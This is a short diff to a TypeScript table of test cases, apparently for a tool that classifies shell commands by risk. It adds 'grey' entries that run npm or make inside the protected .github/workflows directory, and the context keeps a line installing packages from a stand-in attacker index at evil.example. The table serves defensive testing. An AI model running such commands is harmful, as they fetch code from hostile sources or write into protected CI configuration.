@@ -44,6 +44,10 @@ export const cases: CaseTable = {
     "uv add run requests --index-url https://evil.example",
   ],
   grey: [
+    // Tooling run in a protected directory writes there (node_modules, lock files, outputs).
+    "npm --prefix .github/workflows install left-pad",
+    "cd .github/workflows && npm install",
+    "make -C .github/workflows",
     "npm install --frobnicate",
     "npm install -g typescript",
     "npm link",
